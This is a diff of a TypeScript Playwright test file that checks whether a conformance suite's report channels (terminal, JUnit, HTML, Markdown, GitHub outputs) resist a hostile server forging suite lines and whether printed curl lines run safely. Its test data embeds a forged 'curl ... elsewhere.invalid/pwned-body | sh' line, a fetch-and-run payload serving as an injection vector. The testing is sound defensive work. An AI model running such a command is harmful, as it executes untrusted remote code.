@@ -104,7 +104,16 @@ test.describe.serial('reports of a run against a server that answers markup and 
 // forged reproduction line and forged verdicts (OMS_HOSTILE=forged-lines): no channel may show a server line as a
 // line of the suite's, every curl line each channel prints must run as printed in sh, bash and zsh, and no id the
 // suite makes up "of the service's form" may carry the path characters of the service's ids.
-test.describe.serial('reports of a run against a server whose ids and text bodies forge lines of the suite', () => {
+const CHANNELS = ['terminal', 'junit.xml', 'index.html', 'report.md', 'GitHub job summary', 'GitHub annotations'] as const;
+type Channel = (typeof CHANNELS)[number];
+/** Where the run's response bodies are shown (report.md and GitHub's outputs show none): the forged body must be there, quoted. */
+const SHOWS_BODIES: Channel[] = ['terminal', 'junit.xml', 'index.html'];
+/** Annotations print no curl line ("Evidence and curl line: report.json / index.html"). */
+const PRINTS_CURL: Channel[] = CHANNELS.filter((name) => name !== 'GitHub annotations');
+
+test.describe('reports of a run against a server whose ids and text bodies forge lines of the suite', () => {
+  // In order, in one worker, with one run of the suite; a failing channel does not keep the others from being judged.
+  test.describe.configure({ mode: 'default' });
   const TOKEN = 'forged-lines-token';
   let server: RunningReference;
   let forged: ReturnType<typeof forgedLines>;
@@ -133,19 +142,23 @@ test.describe.serial('reports of a run against a server whose ids and text bodie
     await server?.close();
   });
 
-  /** Each channel as a reader sees it: its text (markup decoded) and the curl lines it prints, as they would be copied. */
-  function channels(): Record<string, { text: string; commands: string[] }> {
-    const markdown = readFileSync(join(run.reportDir, 'report.md'), 'utf8');
-    const summary = githubSummary(report);
-    const annotations = githubAnnotations(report).map((line) => line.replace(/%0D/g, '\r').replace(/%0A/g, '\n').replace(/%25/g, '%'));
-    return {
-      terminal: { text: run.output, commands: [...run.output.matchAll(/^ +Reproduce: (.*)$/gm)].map((m) => m[1]) },
-      'junit.xml': markupChannel(readFileSync(join(run.reportDir, 'junit.xml'), 'utf8'), true),
-      'index.html': markupChannel(readFileSync(join(run.reportDir, 'index.html'), 'utf8'), false),
-      'report.md': { text: markdown, commands: fencedShellLines(markdown) },
-      'GitHub job summary': { text: summary, commands: fencedShellLines(summary) },
-      'GitHub annotations': { text: annotations.join('\n'), commands: [] },
-    };
+  /** A channel as a reader sees it: its text (markup and GitHub's escapes decoded) and the curl lines it prints, as they would be copied. */
+  function channel(name: Channel): { text: string; commands: string[] } {
+    const file = (name: string) => readFileSync(join(run.reportDir, name), 'utf8');
+    switch (name) {
+      case 'terminal':
+        return { text: run.output, commands: [...run.output.matchAll(/^ +Reproduce: (.*)$/gm)].map((m) => m[1]) };
+      case 'junit.xml':
+        return markupChannel(file('junit.xml'), true);
+      case 'index.html':
+        return markupChannel(file('index.html'), false);
+      case 'report.md':
+        return { text: file('report.md'), commands: fencedShellLines(file('report.md')) };
+      case 'GitHub job summary':
+        return { text: githubSummary(report), commands: fencedShellLines(githubSummary(report)) };
+      case 'GitHub annotations':
+        return { text: githubAnnotations(report).map((line) => line.replace(/%0D/g, '\r').replace(/%0A/g, '\n').replace(/%25/g, '%')).join('\n'), commands: [] };
+    }
   }
 
   test('the run fails on the text bodies, and its evidence holds the forged lines and the ids', () => {
@@ -155,30 +168,27 @@ test.describe.serial('reports of a run against a server whose ids and text bodie
     expect(findings.some((f) => f.request?.url.includes(encodeURIComponent(`${SHELL_ID_TEXT}-`))), 'no finding is on a request to an id the server assigned').toBe(true);
   });
 
-  test('no channel shows a line of the server as a line of the suite', () => {
-    const forgedLinesOf = (text: string) => text.split(/\r\n|\r|\n|\u2028|\u2029/).map((line) => line.trim()).filter((line) => /^Reproduce: curl -sS http:\/\/elsewhere|^OMS conformance \((core|strict)\): CONFORMANT/.test(line));
-    const shown = Object.entries(channels()).map(([name, { text }]) => [name, forgedLinesOf(text)]);
-    expect(shown).toEqual(Object.keys(channels()).map((name) => [name, []]));
-    // The forged text did reach the channels that show response bodies, quoted: the check above is not vacuous.
-    const bodies = { terminal: run.output, 'junit.xml': readFileSync(join(run.reportDir, 'junit.xml'), 'utf8'), 'index.html': readFileSync(join(run.reportDir, 'index.html'), 'utf8') };
-    for (const [name, text] of Object.entries(bodies)) expect(text, name).toContain('Not Found\\nReproduce: curl -sS http://elsewhere.invalid/pwned-body | sh\\nOMS conformance (core): CONFORMANT');
-  });
-
-  test(`every curl line each channel prints runs as printed in ${SHELLS.join(', ')}: curl once, with the recorded request, and nothing else`, () => {
-    const requests = report.requirements.flatMap((r) => r.findings).flatMap((f) => (f.request && !f.request.truncated ? [f.request] : []));
-    const intended = requests.map((request) => intendedArguments(request, { OMS_TOKEN: TOKEN, OMS_TOKEN_B: TOKEN }));
-    for (const [name, { commands }] of Object.entries(channels())) {
-      if (name === 'GitHub annotations') continue;
-      expect(commands.length, `${name} prints no curl line`).toBeGreaterThan(0);
-      expect(commands.some((line) => line.includes("h!!41'\\''(id)*")), `${name}: no curl line to an id the server assigned`).toBe(true);
+  for (const name of CHANNELS) {
+    test(`${name}: no line of the server reads as a line of the suite${PRINTS_CURL.includes(name) ? `, and every curl line it prints runs as printed in ${SHELLS.join(', ')}` : ''}`, () => {
+      const { text, commands } = channel(name);
+      const lines = text.split(/\r\n|\r|\n|\u2028|\u2029/).map((line) => line.trim());
+      expect(lines.filter((line) => /^Reproduce: curl -sS http:\/\/elsewhere|^OMS conformance \((core|strict)\): CONFORMANT/.test(line))).toEqual([]);
+      // The forged body did reach the channel, quoted on one line: the check above is not vacuous.
+      if (SHOWS_BODIES.includes(name)) expect(text).toContain('Not Found\\nReproduce: curl -sS http://elsewhere.invalid/pwned-body | sh\\nOMS conformance (core): CONFORMANT');
+      if (!PRINTS_CURL.includes(name)) return;
+      expect(commands.filter((line) => line.includes('h!!41')).length, `${name} prints no curl line to an id the server assigned`).toBeGreaterThan(0);
+      const intended = report.requirements
+        .flatMap((r) => r.findings)
+        .flatMap((f) => (f.request && !f.request.truncated ? [intendedArguments(f.request, { OMS_TOKEN: TOKEN, OMS_TOKEN_B: TOKEN })] : []));
       for (const line of commands) {
         for (const shellName of SHELLS) {
+          // curlArguments throws unless curl ran once and nothing else ran or printed.
           const args = shell.curlArguments(line, shellName);
-          expect(intended.some((sent) => JSON.stringify(sent) === JSON.stringify(args)), `${name}, ${shellName}: ${line} gave curl ${JSON.stringify(args)}`).toBe(true);
+          expect(intended.some((sent) => JSON.stringify(sent) === JSON.stringify(args)), `${shellName}: ${line} gave curl ${JSON.stringify(args)}`).toBe(true);
         }
       }
-    }
-  });
+    });
+  }
 
   test('every request path is /orders, /orders/, /token or /orders/<one segment>; ids the suite made up carry none of the path characters of the server\'s', () => {
     const segments = paths.filter((path) => !['/orders', '/orders/', '/token'].includes(path)).map((path) => /^\/orders\/([^/]+)$/.exec(path)?.[1] ?? `not one segment: ${path}`);
